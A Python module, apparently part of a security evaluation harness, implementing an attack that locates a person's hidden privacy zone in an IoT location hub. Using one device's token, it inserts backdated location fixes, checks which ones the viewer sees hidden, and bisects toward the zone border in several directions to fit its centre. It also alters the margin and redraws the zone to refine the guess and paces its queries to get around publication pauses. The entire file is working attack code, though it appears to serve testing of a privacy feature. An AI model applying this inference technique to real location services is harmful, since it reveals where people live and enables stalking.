"""Attack (j): ask where the zone is, with the token of one device: send fixes of the past, and look which are shown.

A place is asked by three fixes within twenty minutes, since a shorter appearance is not shown, and three hours after
the one before, so that none is on the way to another. The attacker knows what pauses a device's publication, and
waits for the next day instead.
"""

from __future__ import annotations

import math
from collections.abc import Mapping

import numpy as np
from numpy.typing import NDArray

from attacks.circle import fit
from attacks.knowledge import Rules
from attacks.person import Person
from attacks.plane import Plane, Points, toward
from attacks.published import HUB
from attacks.statements import statement
from attacks.world import Connection, change_margin, publish, redraw, store
from iot_hub.ingest.batch import StoredEvent

FIRST_ASKED = 1_577_836_800
"""2020-01-01: nothing else of the device is of that time."""
APART_SECONDS = 3 * 3600
ASKED_MINUTES = (0, 10, 20)
MOST_CROSSINGS = 16
DAYS = 30
WAYS = 8
HALVINGS = 7
OTHER_MARGIN = 1.6

Places = Mapping[str, Points]


class Oracle:
    """A published device of which the attacker has the token, and what is shown of it."""

    def __init__(self, owner: Connection, viewer: Connection, schema: str, device_id: int, plane: Plane) -> None:
        """Prepare to ask with a device that has reported nothing yet."""
        self._owner, self._viewer, self._schema = owner, viewer, schema
        self._device_id, self._plane = device_id, plane
        self._asked, self._crossings = 0, 0
        self.days = 1

    def hides(self, places: Points) -> NDArray[np.bool_]:
        """Ask some places at once, a day later where that many might be too many today."""
        answers = [self._ask(some) for some in np.array_split(places, max(1, math.ceil(len(places) / WAYS)))]
        return np.concatenate(answers)

    def _ask(self, places: Points) -> NDArray[np.bool_]:
        if self._crossings + len(places) > MOST_CROSSINGS:
            self._owner.execute(statement("pass_a_day"), {"device_id": self._device_id})
            self._crossings, self.days = 0, self.days + 1
        begins = FIRST_ASKED + APART_SECONDS * (self._asked + np.arange(len(places)))
        self._asked += len(places)
        store(self._owner, [
            StoredEvent(self._device_id, (int(begin) + 60 * minutes) * 1_000_000, _event(latitude, longitude), "hub")
            for begin, (latitude, longitude) in zip(begins, self._plane.degrees(places), strict=True)
            for minutes in ASKED_MINUTES
        ])  # fmt: skip
        self._viewer.execute(f"SET search_path = {self._schema}, public".encode())
        shown = {row["at"] for row in self._viewer.execute(statement("fixes"), {"device_id": self._device_id})}
        hidden = np.array([float(begin) + 60 * ASKED_MINUTES[1] not in shown for begin in begins])
        self._crossings += int(hidden.sum())
        return hidden


def probe(
    owner: Connection, viewer: Connection, schema: str, device_id: int, person: Person, begin: Points, plane: Plane,
    rules: Rules,
) -> Places:  # fmt: skip
    """Find the zone's middle, also with another margin and redrawn; return guesses, none where it takes too long."""
    oracle = Oracle(owner, viewer, schema, device_id, plane)
    inside = _inside(oracle, begin, rules)
    if inside is None:
        return {"where it begins": begin}
    found = _middle(oracle, inside, rules)
    guesses = {"middle of the zone": found}
    if schema == HUB:
        change_margin(owner, person, OTHER_MARGIN)
        publish(owner)
        wider = _middle(oracle, inside, rules)
        change_margin(owner, person, 1.0)
        redraw(owner, person, person.area + 50.0)
        publish(owner)
        moved = _middle(oracle, inside, rules)
        redraw(owner, person, person.area)
        publish(owner)
        guesses |= {
            "middle with another margin": wider,
            "back along the line through both": found - (wider - found) / (OTHER_MARGIN - 1),
            "middle after it was redrawn": moved,
            "middle of all three": (found + wider + moved) / 3,
        }
    return guesses if oracle.days <= DAYS else {"where it begins": begin}


def _inside(oracle: Oracle, begin: Points, rules: Rules) -> Points | None:
    """Find places in the zone, searching further and further out from where it may be."""
    step = max(rules.zone_m, 40.0)
    for ring in range(9):
        count = max(1, 6 * ring)
        turns = [ring * step * toward(2 * math.pi * n / count) for n in range(count)]
        places = begin + np.array(turns)
        hidden = oracle.hides(places)
        if hidden.any():
            return np.asarray(places[hidden].mean(axis=0))
    return None


def _middle(oracle: Oracle, inside: Points, rules: Rules) -> Points:
    """Halve the way to the border in some directions, and fit a circle to it."""
    ways = np.array([toward(2 * math.pi * n / WAYS) for n in range(WAYS)])
    near, far = np.zeros(WAYS), np.full(WAYS, 3.5 * max(rules.zone_m, 100.0))
    for _ in range(HALVINGS):
        middle = (near + far) / 2
        hidden = oracle.hides(inside + middle[:, None] * ways)
        near, far = np.where(hidden, middle, near), np.where(hidden, far, middle)
    return fit(inside + ((near + far) / 2)[:, None] * ways, inside, None)


def _event(latitude: float, longitude: float) -> bytes:
    return f'{{"location":{{"latitude":{latitude:.7f},"longitude":{longitude:.7f},"fix_accuracy_m":1}}}}'.encode()
